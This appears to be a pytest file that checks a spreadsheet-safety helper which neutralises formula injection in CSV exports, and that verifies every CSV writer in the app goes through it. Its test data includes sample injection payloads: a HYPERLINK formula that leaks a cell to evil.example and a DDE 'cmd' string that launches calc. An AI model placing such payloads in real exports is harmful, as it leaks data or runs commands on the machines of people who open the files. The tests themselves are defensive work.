"""Formula neutralisation for spreadsheets: the one helper, and that every CSV writer of the app uses it."""

from __future__ import annotations

import csv
import io
import re

import numpy as np
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from studyapp.core.spreadsheet_safety import (
    SafeDictWriter,
    SafeWriter,
    append_csv_rows,
    neutralise,
    neutralise_frame,
)
from tests.conftest import ROOT


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        (
            '=HYPERLINK("http://evil.example/?leak="&A2,"Click me")',
            '\'=HYPERLINK("http://evil.example/?leak="&A2,"Click me")',
        ),
        ("+1+1", "'+1+1"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\n=1"),  # and the lone CR becomes LF, which CSV quotes
        ("-3", "-3"),  # just a number
        ("+31", "+31"),
        ("-1.5", "-1.5"),
        ("-", "'-"),
        ("engineer", "engineer"),
        (" =1", " =1"),  # a leading space makes it text already
        ("a\r\nb", "a\r\nb"),
        ("", ""),
        (-3, -3),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_neutralise(value: object, expected: object) -> None:
    assert neutralise(value) == expected


def test_raw_text_keeps_formulas_but_never_a_lone_carriage_return() -> None:
    assert neutralise("=1+1", raw_text=True) == "=1+1"
    assert neutralise("a\rb", raw_text=True) == "a\nb"


def test_frames_neutralise_text_columns_and_leave_numbers() -> None:
    frame = pd.DataFrame(
        {
            "n": pd.array([-3, 4], dtype="Int64"),
            "x": pd.array([-1.5, None], dtype="Float64"),
            "s": pd.array(["=1", None], dtype="str"),
            "mixed": pd.Series([-3, "-3+A1"], dtype=object),
        }
    )
    safe = neutralise_frame(frame)
    assert safe["n"].tolist() == [-3, 4] and safe["n"].dtype == frame["n"].dtype
    assert safe["x"].tolist()[0] == -1.5
    assert safe["s"].tolist()[0] == "'=1" and pd.isna(safe["s"].tolist()[1])
    assert safe["mixed"].tolist() == [-3, "'-3+A1"]
    assert frame["s"].tolist()[0] == "=1"  # the input is not changed


def test_safe_writers_cover_the_header_too() -> None:
    out = io.StringIO()
    writer = SafeDictWriter(out, fieldnames=["=a", "b"])
    writer.writeheader()
    writer.writerow({"=a": "@x", "b": None})
    SafeWriter(out).writerow([1, "+y"])
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [["'=a", "b"], ["'@x", ""], ["1", "'+y"]]
    with pytest.raises(ValueError, match="not in fieldnames"):
        writer.writerow({"c": 1})


WRITES_A_SPREADSHEET = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|\.to_excel\(|Workbook\(|xlsxwriter")


def test_every_csv_and_xlsx_writer_goes_through_the_helper() -> None:
    """A new writer that bypasses studyapp.core.spreadsheet_safety fails here until it uses it."""
    helper = ROOT / "studyapp" / "core" / "spreadsheet_safety.py"
    offenders = [
        f"{path.relative_to(ROOT)}:{number}: {line.strip()}"
        for folder in ("studyapp", "waves", "analysis")
        for path in sorted((ROOT / folder).rglob("*.py"))
        if path != helper
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1)
        if WRITES_A_SPREADSHEET.search(line)
    ]
    assert offenders == []


_CELL_TEXT = st.one_of(
    st.none(),
    st.text(max_size=12),
    st.sampled_from(["=1+1", "-3", 'say "hi", then', "a\nb", "a\rb", "a\r\nb", "\t=x", "", " ", "é,ü", "@x"]),
)


@settings(max_examples=400, deadline=None)
@given(
    texts=st.lists(_CELL_TEXT, min_size=0, max_size=8),
    numbers=st.lists(st.one_of(st.none(), st.integers(-(10**12), 10**12)), min_size=8, max_size=8),
    mixed=st.lists(
        st.one_of(st.none(), st.integers(-99, 99), st.floats(allow_nan=False, allow_infinity=False), _CELL_TEXT),
        min_size=8,
        max_size=8,
    ),
    raw_text=st.booleans(),
)
def test_chunked_csv_rows_are_byte_for_byte_what_the_csv_module_writes(texts, numbers, mixed, raw_text) -> None:
    """The export's chunk writer joins rows with Arrow; the csv module over the same cells is the reference."""
    n = len(texts)
    frame = pd.DataFrame(
        {
            "text": pd.array(texts, dtype="string"),
            "plain": pd.array(["p,1" if i % 3 == 0 else "x" for i in range(n)], dtype="string"),
            "number": pd.array(numbers[:n], dtype="Int64"),
            "position": np.arange(n, dtype=np.int64),
            "mixed": pd.Series(mixed[:n], dtype=object),
            "flag": pd.Series([i % 2 == 0 for i in range(n)], dtype=bool),
        }
    )  # fmt: skip
    written = io.StringIO()
    append_csv_rows(frame, written, header=True, raw_text=raw_text)
    expected = io.StringIO()
    writer = csv.writer(expected, lineterminator="\n")
    writer.writerow(frame.columns)
    for row in frame.astype(object).itertuples(index=False):
        writer.writerow([None if pd.isna(cell) else neutralise(cell, raw_text=raw_text) for cell in row])
    assert written.getvalue() == expected.getvalue()
